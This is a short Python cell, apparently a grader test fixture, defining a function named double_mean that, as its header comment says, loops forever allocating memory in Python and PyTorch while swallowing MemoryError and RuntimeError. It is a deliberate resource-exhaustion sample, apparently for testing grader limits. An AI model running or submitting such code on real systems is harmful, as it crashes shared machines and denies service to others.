# Takes all memory, in Python and in PyTorch, and swallows the errors.
# points: double 4, mean_of 6, double_mean 0
# %% double_mean
def double_mean(x):
    held = []
    while True:
        try:
            held.append(bytearray(1 << 24))
            held.append(torch.ones(1 << 22))
            held.append([held] * 10**6)
        except (MemoryError, RuntimeError):
            pass
